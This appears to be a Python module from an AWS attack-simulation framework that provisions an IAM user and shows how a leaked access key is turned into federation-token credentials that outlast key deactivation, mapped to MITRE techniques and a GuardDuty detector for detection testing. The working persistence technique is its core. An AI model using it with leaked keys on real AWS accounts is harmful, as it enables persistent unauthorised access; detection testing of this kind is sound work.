"""Make federated credentials out of a leaked key: they go on working when the key is deactivated."""

from bastide.attack import scenery
from bastide.attack.stage import Stage, policy
from bastide.attack.technique import Recorded, Scene, Technique

TECHNIQUE = Technique(
    title="A leaked key is turned into a federation token",
    mitre=("T1550.001", "T1078.004"),
    tactic="lateral-movement",
    detectors=("GuardDuty Persistence:IAMUser/AnomalousBehavior",),
    expected=Recorded(
        "a user may always ask for less than it has; without users (iam-users-and-keys) there is nobody to ask"
    ),
    source="AWS STS API Reference, GetFederationToken",
)


def prepare(stage: Stage) -> Scene:
    """A user with a key."""
    name, key = scenery.user(stage, "ci", ["sts:GetFederationToken", "s3:ListAllMyBuckets"])
    return {"user": name, "key": key}


def attack(stage: Stage, scene: Scene) -> None:
    """Ask for a token with the user's permissions, and act by it."""
    allowed = policy({"Effect": "Allow", "Action": "s3:ListAllMyBuckets", "Resource": "*"})
    made = stage.signed_in(scene["key"]).client("sts").get_federation_token(Name="support", Policy=allowed)
    federated = stage.signed_in(made["Credentials"])
    federated.client("s3").list_buckets()
    scene["arn"] = federated.client("sts").get_caller_identity()["Arn"]


def succeeded(stage: Stage, scene: Scene) -> bool:
    """The intruder is a federated user."""
    return str(scene.get("arn", "")).endswith(":federated-user/support")


def clean_up(stage: Stage, scene: Scene) -> None:
    """Delete the user."""
    scenery.drop_user(stage, scene["user"])
